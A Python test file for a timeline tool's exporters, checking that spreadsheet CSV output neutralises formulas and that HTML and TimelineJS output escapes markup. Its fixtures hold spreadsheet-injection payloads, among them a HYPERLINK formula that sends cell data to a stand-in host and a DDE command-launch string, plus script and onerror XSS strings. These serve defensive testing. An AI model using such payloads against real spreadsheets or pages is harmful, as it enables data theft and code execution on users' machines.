"""Exports: CSV and JSON Lines read back by `read_events`, a spreadsheet CSV without formulas, an offline HTML chart,
TimelineJS JSON."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
from conftest import event

from timeline import read_events, schema
from timeline.chart import timeline_figure
from timeline.export import (
    chart_html,
    events_csv,
    events_jsonl,
    events_spreadsheet_csv,
    timelinejs,
    timelinejs_id,
    timelinejs_json,
)

# What a spreadsheet would run: formulas, a DDE call, a tab or carriage return before a formula.
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


def _formula_frame() -> pd.DataFrame:
    records = [event("=evil.txt", 10 + i, "am 3. März 2025", "2025-03-03", formula, title=formula, sentence=formula)
               for i, formula in enumerate(FORMULAS)]
    return schema.from_records(records)


def _same(left: pd.DataFrame, right: pd.DataFrame) -> None:
    pd.testing.assert_frame_equal(schema.conform(left), schema.conform(right))


def test_csv_and_jsonl_round_trip(frame, tmp_path):
    for name, data in (("events.csv", events_csv(frame)), ("events.jsonl", events_jsonl(frame))):
        path = tmp_path / name
        path.write_bytes(data)
        back = read_events(path)
        _same(back, frame)
        assert back.loc[back["event_id"] == "b:10", "label"].iloc[0].startswith("<script>")  # data, not markup


def test_contract_csv_and_jsonl_keep_formula_text_exactly(tmp_path):
    frame = _formula_frame()
    for name, data in (("events.csv", events_csv(frame)), ("events.jsonl", events_jsonl(frame))):
        path = tmp_path / name
        path.write_bytes(data)
        back = read_events(path)
        _same(back, frame)
        assert list(back["label"]) == list(FORMULAS)


def test_spreadsheet_csv_runs_no_formula():
    frame = _formula_frame()
    data = events_spreadsheet_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads "März" right
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(frame) and list(rows[0]) == list(schema.COLUMNS)
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert [row["label"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert rows[0]["doc_id"] == "'=evil.txt" and rows[0]["value"] == "2025-03-03"
    assert rows[0]["start"] == "10" and rows[0]["date_start"].startswith("2025-03-03")


def test_spreadsheet_csv_leaves_ordinary_text_alone(frame):
    rows = list(csv.DictReader(io.StringIO(events_spreadsheet_csv(frame).decode("utf-8-sig"), newline="")))
    assert [row["label"] for row in rows] == list(frame["label"])
    assert [row["expression"] for row in rows] == list(frame["expression"])


def test_jsonl_is_one_json_object_per_event(frame):
    lines = events_jsonl(frame).decode("utf-8").splitlines()
    assert len(lines) == len(frame)
    assert json.loads(lines[1])["value"] == "2024-05"


def test_html_chart_is_standalone_and_escaped(frame):
    page = chart_html(timeline_figure(frame), "Nordkorea <Gipfel>", frame).decode("utf-8")
    assert page.startswith("<!DOCTYPE html>")
    assert "<script src=" not in page  # plotly.js is embedded, nothing loaded from the network
    assert "Plotly.newPlot" in page and len(page) > 1_000_000
    assert "Nordkorea &lt;Gipfel&gt;" in page
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def _slides(frame: pd.DataFrame) -> dict[str, dict]:
    return {slide["unique_id"]: slide for slide in timelinejs(frame)["events"]}


def test_html_chart_keeps_file_names_out_of_its_markup():
    name = "</script><script>alert(1)</script><img src=x onerror=alert(2)>.txt"
    frame = schema.from_records([event(name, 5, "2024", "2024", "<b>x</b>", title="")])
    page = chart_html(timeline_figure(frame), "T", frame).decode("utf-8")
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;/script&gt;&lt;script&gt;alert(1)" in page  # the table row names the file, as text


def test_timelinejs_keeps_only_the_precision_there_is(frame):
    slides = _slides(frame)
    assert timelinejs_id("a:900") not in slides  # the duration has no place on a timeline
    day, month = slides[timelinejs_id("a:100")], slides[timelinejs_id("a:300")]
    assert day["start_date"] == {"year": 2024, "month": 6, "day": 19}
    assert "end_date" not in day
    assert month["start_date"] == {"year": 2024, "month": 5}
    assert slides[timelinejs_id("a:700")]["start_date"] == {"year": 1961}
    assert month["display_date"] == "May 2024"
    assert day["group"] == "Putin besucht Nordkorea"


def test_timelinejs_ids_carry_no_user_text_markup():
    names = ['"><img src=x onerror=alert(1)>.txt', "<script>.txt", "a b#c?d.txt", "Ärger über 🗓.txt", "", "--"]
    frame = schema.from_records([event(name, 5, "2024", "2024", "x") for name in names])
    ids = [slide["unique_id"] for slide in timelinejs(frame)["events"]]
    assert len(ids) == len(set(ids)) == len(names)
    assert all(re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", unique_id) for unique_id in ids), ids
    assert ids[0].startswith("img-src-x-onerror-alert-1-txt-5-")


def test_timelinejs_spans_for_seasons_and_decades():
    frame = schema.from_records([event("s", 1, "im Sommer", "2024-SU", "Sommer"),
                                 event("s", 20, "1990er", "199", "Neunziger")])
    slides = timelinejs(frame, "Title")["events"]
    assert slides[0]["start_date"] == {"year": 2024, "month": 6} and slides[0]["end_date"] == {"year": 2024, "month": 8}
    assert slides[1]["start_date"] == {"year": 1990} and slides[1]["end_date"] == {"year": 1999}


def test_timelinejs_text_is_escaped(frame):
    document = json.loads(timelinejs_json(frame, "<b>T</b>"))
    slide = next(s for s in document["events"] if s["unique_id"] == timelinejs_id("b:10"))
    assert slide["text"]["headline"].startswith("&lt;script&gt;")
    assert "<script>" not in slide["text"]["text"] and "<mark" in slide["text"]["text"]
    assert "<i>" not in slide["group"]
    assert document["title"]["text"]["headline"] == "&lt;b&gt;T&lt;/b&gt;"


def test_exports_of_an_empty_frame():
    empty = schema.empty_frame()
    assert events_csv(empty).decode().startswith("event_id,")
    assert events_spreadsheet_csv(empty).decode("utf-8-sig").startswith("event_id,")
    assert events_jsonl(empty) == b""
    assert timelinejs(empty) == {"events": []}


def test_csv_for_excel_has_a_bom_and_a_semicolon_variant(frame):
    import csv
    import io

    plain = events_spreadsheet_csv(frame)
    assert plain.startswith(b"\xef\xbb\xbf")
    german = events_spreadsheet_csv(frame, delimiter=";").decode("utf-8")
    assert german.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(german.lstrip("\ufeff"), newline=""), delimiter=";"))
    original = list(csv.reader(io.StringIO(plain.decode("utf-8-sig"), newline="")))
    assert rows == original  # the same cells, commas inside labels included
    assert any(";" not in cell and "," in cell for row in rows for cell in row)
